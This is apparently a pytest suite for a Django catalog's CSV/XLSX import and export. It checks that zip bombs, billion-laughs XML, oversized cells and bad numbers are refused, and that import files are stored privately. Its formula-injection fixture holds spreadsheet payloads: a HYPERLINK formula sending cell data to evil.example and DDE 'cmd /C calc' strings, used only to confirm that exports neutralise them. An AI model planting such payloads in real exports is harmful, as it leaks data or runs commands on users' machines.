"""Issue 16 items 4, 5, 6 and 9: hostile import files, formula cells in exports, private import files."""

import csv
import io
import json
import tracemalloc
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.storage import storages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from catalog import importing
from catalog.models import Service, ServiceImport
from catalog.services import service_import_start
from tests.catalog import hostile_files as hf
from tests.catalog.test_import import _commit, _csv, _row, _start
from tests.factories import MembershipFactory, ProviderFactory, ServiceFactory, UserFactory

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _english():
    """Messages are asserted in English (the site's default language is Chinese)."""
    with translation.override("en"):
        yield


# Before the fix the files below peaked at 0.8-1.3 GB; now the reader holds a row at a time.
PEAK_BYTES = 32 * 1024 * 1024


def _read_measured(content: bytes, fmt: str) -> tuple[object, int]:
    """read_rows' result or the exception it raised, and the peak of Python allocations while reading."""
    tracemalloc.start()
    try:
        outcome: object = importing.read_rows(io.BytesIO(content), fmt)
    except importing.ImportFileError as exc:
        outcome = exc
    finally:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    return outcome, peak


def _refused(content: bytes, fmt: str, words: str) -> None:
    outcome, peak = _read_measured(content, fmt)
    assert isinstance(outcome, importing.ImportFileError), outcome
    assert words in str(outcome)
    assert peak < PEAK_BYTES, f"peak {peak / 2**20:.0f} MB"


# --- item 4: bounded reading ------------------------------------------------------------------------


def test_ten_megabytes_of_blank_lines_hit_the_row_limit_in_bounded_memory():
    _refused(hf.blank_lines_csv(), "csv", "at most 20000 rows")


def test_blank_rows_count_towards_the_row_limit():
    content = _csv([_row(1)]) + b"\r\n" * importing.MAX_ROWS
    with pytest.raises(importing.ImportFileError, match="blank rows included"):
        importing.read_rows(io.BytesIO(content), "csv")


def test_a_file_without_data_rows_is_not_valid(member, provider, category, django_capture_on_commit_callbacks):
    content = (",".join(hf.HEADER) + "\n" + "\n" * 500).encode()
    job = _start(member, provider, content, capture=django_capture_on_commit_callbacks)
    assert job.status == ServiceImport.Status.INVALID
    assert job.message


def test_shared_string_bomb_is_refused_before_it_is_unpacked():
    content = hf.shared_string_bomb(importing.XLSX_MAX_UNPACKED_BYTES + 2**20)  # the one was 400 MB
    assert len(content) < 200 * 1024
    _refused(content, "xlsx", "unpacked")


def test_shared_strings_larger_than_their_own_limit_are_refused():
    content = hf.shared_string_bomb(importing.XLSX_MAX_SHARED_STRINGS_BYTES + 2**20)
    _refused(content, "xlsx", "unpacked")


def test_a_million_header_cells_are_refused_at_the_column_limit_and_store_no_errors(
    member, provider, category, django_capture_on_commit_callbacks
):
    content = hf.wide_header_bomb()
    assert len(content) < 200 * 1024
    _refused(content, "xlsx", "at most 50 columns")
    job = _start(member, provider, content, name="wide.xlsx", capture=django_capture_on_commit_callbacks)
    assert job.status == ServiceImport.Status.INVALID
    assert "50" in job.message
    assert job.row_errors == [] and job.error_count == 0


def test_millions_of_empty_cells_are_refused_at_the_cell_limit(monkeypatch):
    # The real limit (500,000) takes seconds under tracemalloc; the mechanism is the same at a tenth.
    monkeypatch.setattr(importing, "MAX_CELLS", importing.MAX_CELLS // 10)
    _refused(hf.empty_cells_bomb(), "xlsx", "too many cells")


def test_rows_far_below_the_header_count_towards_the_row_limit():
    content = hf.xlsx(hf.sheet(f'<row r="{importing.MAX_ROWS + 2}">{hf.cells(["x"])}</row>'))
    _refused(content, "xlsx", "at most 20000 rows")


def test_a_csv_line_of_commas_is_refused_without_building_its_fields():
    content = (",".join(hf.HEADER) + "\n").encode() + b"," * (9 * 1024 * 1024)
    _refused(content, "csv", "at most 50 columns")


def test_a_value_beyond_the_last_allowed_column_is_refused_but_empty_ones_are_ignored(provider, category):
    wide = _csv([_row(1)]).decode("utf-8-sig").splitlines()
    padded = [line + "," * 60 for line in wide]
    header, rows = importing.read_rows(io.BytesIO("\n".join(padded).encode()), "csv")
    assert importing.validate_rows(provider, header, rows).ok
    padded[1] += "surprise"
    with pytest.raises(importing.ImportFileError, match="Row 2"):
        importing.read_rows(io.BytesIO("\n".join(padded).encode()), "csv")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_over_long_cell_is_a_row_error_and_is_not_kept_whole(fmt, provider, category):
    long_text = "长" * (importing.MAX_CELL_CHARS + 1)
    header = [*hf.HEADER, "description_zh"]
    rows = [_row(1), _row(2, description_zh=long_text)]
    if fmt == "csv":
        content = _csv(rows, header=header)
    else:
        xml_rows = [f"<row>{hf.cells(row.get(h, '') for h in header)}</row>" for row in rows]
        content = hf.xlsx(hf.sheet(*xml_rows, header=header))
    header, rows = importing.read_rows(io.BytesIO(content), fmt)
    assert len(rows[1]["description_zh"]) == importing.MAX_CELL_CHARS + 1  # cut, flagged, not kept whole
    result = importing.validate_rows(provider, header, rows)
    assert [(e.row, e.column) for e in result.errors] == [(3, "description_zh")]
    assert str(importing.MAX_CELL_CHARS) in result.errors[0].message


def test_a_sixty_megabyte_inline_cell_is_read_in_bounded_memory(provider, category):
    outcome, peak = _read_measured(hf.huge_inline_cell(60 * 2**20), "xlsx")
    assert isinstance(outcome, tuple), outcome
    rows = outcome[1]
    assert len(rows[0]["slug"]) == importing.MAX_CELL_CHARS + 1
    assert peak < PEAK_BYTES


def test_a_csv_field_beyond_the_csv_modules_limit_names_its_row():
    content = _csv([_row(1), _row(2, title_zh="x" * 200_000)])
    with pytest.raises(importing.ImportFileError, match="Row 3"):
        importing.read_rows(io.BytesIO(content), "csv")


def test_xml_entities_and_doctypes_are_refused():
    content = hf.xlsx(hf.sheet(f'<row r="2">{hf.cells(["&lol3;"])}</row>', prolog=hf.BILLION_LAUGHS))
    with pytest.raises(importing.ImportFileError, match="not a readable XLSX"):
        importing.read_rows(io.BytesIO(content), "xlsx")


@pytest.mark.parametrize(
    "content",
    [
        b"PK\x03\x04" + b"\x00" * 100,
        hf.xlsx(b"<worksheet><sheetData><row r='x'/></sheetData></worksheet>"),
        hf.xlsx(b"<worksheet><sheetData><row r='2'/><row r='2'/></sheetData></worksheet>"),
        hf.xlsx(b"<worksheet><sheetData><row><c r='1A' t='s'><v>0</v></c></row></sheetData></worksheet>"),
        hf.xlsx(b"<worksheet><sheetData><row><c t='s'><v>7</v></c></row></sheetData></worksheet>"),
        hf.xlsx(b"<worksheet><sheetData><row>"),
    ],
    ids=["not-a-zip", "bad-row-number", "rows-out-of-order", "bad-cell-reference", "missing-string", "truncated"],
)
def test_malformed_workbooks_get_a_message_not_a_crash(content):
    with pytest.raises(importing.ImportFileError):
        importing.read_rows(io.BytesIO(content), "xlsx")


def test_reading_gives_up_after_its_time_budget(monkeypatch):
    monkeypatch.setattr(importing, "READ_SECONDS", -1)
    with pytest.raises(importing.ImportFileError, match="too long"):
        importing.read_rows(io.BytesIO(_csv([_row(1)])), "csv")


def test_a_file_larger_than_the_upload_limit_is_refused_when_read():
    with pytest.raises(importing.ImportFileError, match="larger than 10 MB"):
        importing.read_rows(io.BytesIO(b"a" * (importing.MAX_FILE_BYTES + 1)), "csv")


def test_only_the_first_row_errors_are_stored_and_all_are_counted(
    member, provider, category, client, django_capture_on_commit_callbacks
):
    rows = [_row(n, category="nope", pricing_mode="nope", turnaround_days="nope") for n in range(400)]
    job = _start(member, provider, _csv(rows), capture=django_capture_on_commit_callbacks)
    assert job.status == ServiceImport.Status.INVALID
    assert len(job.row_errors) == importing.MAX_STORED_ERRORS
    assert job.error_count == job.errors_total == 1200
    assert job.row_errors[0] == {"row": 2, "column": "category", "message": job.row_errors[0]["message"]}
    assert len(json.dumps(job.row_errors)) < 64 * 1024
    client.force_login(member)
    html = client.get(reverse("catalog:dashboard-import", args=[provider.slug, job.pk])).content.decode()
    assert "1200" in html and "1000" in html
    assert html.count("<tr>") == importing.MAX_STORED_ERRORS + 1  # the header row and the stored errors
    assert len(html) < 200 * 1024


def test_user_values_quoted_in_errors_are_cut(provider, category):
    header, rows = importing.read_rows(io.BytesIO(_csv([_row(1, category="c" * 5000)])), "csv")
    (error,) = importing.validate_rows(provider, header, rows).errors
    assert error.column == "category" and len(error.message) < 200


# --- item 9: every bad number gets its row and column -----------------------------------------------

BAD_PRICES = ["NaN", "sNaN", "-nan", "inf", "-Infinity", "1e400", "-1e400", "1e-400", "9" * 40, "1" + "0" * 5000,
              "-5", "-0.01", "1.234", "abc", "1,2,3e", "12e9999999999"]  # fmt: skip
BAD_TURNAROUNDS = ["NaN", "inf", "1e400", "3.5", "-1", "0", "+3", "99999999999999999999", "9" * 5000, "1e2", "abc"]


def test_bad_numbers_in_a_csv_are_reported_on_their_row_and_column(
    member, provider, category, django_capture_on_commit_callbacks
):
    rows = [_row(i, price=p) for i, p in enumerate(BAD_PRICES)]
    rows += [_row(100 + i, turnaround_days=t) for i, t in enumerate(BAD_TURNAROUNDS)]
    job = _start(member, provider, _csv(rows), capture=django_capture_on_commit_callbacks)
    assert job.status == ServiceImport.Status.INVALID, job.message  # not FAILED "could not be read"
    assert job.message == ""
    expected = [(n + 2, "price") for n in range(len(BAD_PRICES))]
    expected += [(len(BAD_PRICES) + n + 2, "turnaround_days") for n in range(len(BAD_TURNAROUNDS))]
    assert [(e["row"], e["column"]) for e in job.row_errors] == expected
    assert all(e["message"] for e in job.row_errors)


def test_bad_numeric_cells_in_a_workbook_are_reported_on_their_row_and_column(provider, category):
    def row(n: int, price: str) -> str:
        values = [_row(n)[h] for h in hf.HEADER]
        before, after = hf.HEADER.index("price"), hf.HEADER.index("price") + 1
        return f"<row>{hf.cells(values[:before])}<c><v>{price}</v></c>{hf.cells(values[after:])}</row>"

    bad = ["NaN", "nan", "inf", "-inf", "1e400", "-3", "1e-400"]
    content = hf.xlsx(hf.sheet(*[row(i, p) for i, p in enumerate(bad)], row(99, "450.5")))
    header, rows = importing.read_rows(io.BytesIO(content), "xlsx")
    result = importing.validate_rows(provider, header, rows)
    assert [(e.row, e.column) for e in result.errors] == [(n + 2, "price") for n in range(len(bad))]
    assert [s.price for s in result.services] == [Decimal("450.50")]


def test_prices_with_separators_and_currency_signs_are_read(provider, category):
    header, rows = importing.read_rows(io.BytesIO(_csv([_row(1, price="¥25,000.50"), _row(2, price="￥3")])), "csv")
    result = importing.validate_rows(provider, header, rows)
    assert [s.price for s in result.services] == [Decimal("25000.50"), Decimal("3")]


# --- item 5: exported formula cells are neutralised ---------------------------------------------------

FORMULAS = {
    "title_zh": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "title_en": "+1+cmd|' /C calc'!A0",
    "summary_zh": "-2+3",
    "summary_en": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description_zh": "\t=1+1",
    "description_en": "\r=1+1",
    "sample_requirements_zh": "'=already quoted",
    "sample_requirements_en": "  =1+1",
    "price_unit": "-per specimen",
}


@pytest.mark.parametrize(
    "text", ["=1", "'=1", "''=1", "'", "''", "-", " -", "' =1", "a=1", "", "\t", "'\t", "plain", "'plain"]
)
def test_quote_and_unquote_are_inverse(text):
    assert importing.unquote_formula(importing.quote_formula(text)) == text
    assert importing.quote_formula(text)[:1] not in importing.FORMULA_TRIGGERS


def _exported_cells(content: bytes, fmt: str) -> dict[str, str]:
    if fmt == "csv":
        header, values = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        return dict(zip(header, values, strict=True))
    sheet = load_workbook(io.BytesIO(content)).active
    header, row = list(sheet.iter_rows())
    assert all(cell.data_type != "f" for cell in row), "a cell was written as a formula"
    return {h.value: c.value or "" for h, c in zip(header, row, strict=True)}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_neutralises_formula_cells_and_the_import_restores_them(
    fmt, member, provider, category, django_capture_on_commit_callbacks
):
    ServiceFactory(provider=provider, category=category, slug="formulas", **FORMULAS)
    content = importing.export_services(Service.objects.filter(provider=provider), fmt)
    exported = _exported_cells(content, fmt)
    for name, text in FORMULAS.items():
        assert exported[name].startswith("'"), (name, exported[name])
        # XML reads a carriage return as a line feed; the cell is neutralised either way.
        assert exported[name][1:] == (text if fmt == "csv" else text.replace("\r", "\n"))
    assert exported["slug"] == "formulas" and exported["turnaround_days"] == "5"

    job = _start(member, provider, content, name=f"export.{fmt}", capture=django_capture_on_commit_callbacks)
    assert job.status == ServiceImport.Status.VALID, job.row_errors
    _commit(member, job, django_capture_on_commit_callbacks)
    service = Service.objects.get(provider=provider, slug="formulas")
    # The guard quote comes off again; the import trims the end of cells, as it always has.
    expected = {k: (v if fmt == "csv" else v.replace("\r", "\n")).rstrip() for k, v in FORMULAS.items()}
    assert {name: getattr(service, name) for name in FORMULAS} == expected


def test_xlsx_export_drops_control_characters_instead_of_failing(provider, category):
    ServiceFactory(provider=provider, category=category, description_zh="第一段\x0b第二段\x1f")
    content = importing.export_services(Service.objects.filter(provider=provider), "xlsx")
    assert _exported_cells(content, "xlsx")["description_zh"] == "第一段第二段"


def test_dashboard_export_is_neutralised(client, member, provider, category):
    ServiceFactory(provider=provider, category=category, title_zh="=1+1")
    client.force_login(member)
    for fmt in ("csv", "xlsx"):
        response = client.get(reverse("catalog:dashboard-export", args=[provider.slug, fmt]))
        assert _exported_cells(response.content, fmt)["title_zh"] == "'=1+1"


# --- item 6: import files are private ------------------------------------------------------------------


def test_import_file_is_stored_privately_and_served_only_to_the_providers_members(
    client, member, provider, category, django_capture_on_commit_callbacks
):
    content = _csv([_row(1)])
    job = _start(member, provider, content, capture=django_capture_on_commit_callbacks)
    assert job.file.storage is storages["private"]
    path = Path(job.file.path).resolve()
    assert path.is_file()
    assert Path(settings.PRIVATE_MEDIA_ROOT).resolve() in path.parents
    assert Path(settings.MEDIA_ROOT).resolve() not in path.parents
    assert not (Path(settings.MEDIA_ROOT) / job.file.name).exists()

    url = reverse("catalog:dashboard-import-file", args=[provider.slug, job.pk])
    assert client.get(url).status_code == 404  # anonymous

    other = ProviderFactory()
    client.force_login(MembershipFactory(organization=other.organization).user)
    assert client.get(url).status_code == 404
    assert client.get(reverse("catalog:dashboard-import-file", args=[other.slug, job.pk])).status_code == 404

    client.force_login(member)
    page = client.get(reverse("catalog:dashboard-import", args=[provider.slug, job.pk])).content.decode()
    assert url in page and settings.MEDIA_URL not in page
    response = client.get(url)
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == content
    assert response["Content-Disposition"].startswith("attachment")


def test_import_admin_shows_no_link_to_the_file(client, member, provider):
    job = service_import_start(actor=member, provider=provider, upload=SimpleUploadedFile("s.csv", _csv([_row(1)])))
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    html = client.get(reverse("admin:catalog_serviceimport_change", args=[job.pk])).content.decode()
    assert job.original_name in html
    assert job.file.name not in html


def test_dashboard_selectors_are_empty_for_anonymous_users(provider):
    from django.contrib.auth.models import AnonymousUser

    from catalog import selectors

    ServiceFactory(provider=provider)
    anonymous = AnonymousUser()
    for selector in (
        selectors.providers_managed_by,
        selectors.services_managed_by,
        selectors.equipment_managed_by,
        selectors.service_imports_managed_by,
    ):
        assert list(selector(anonymous)) == []
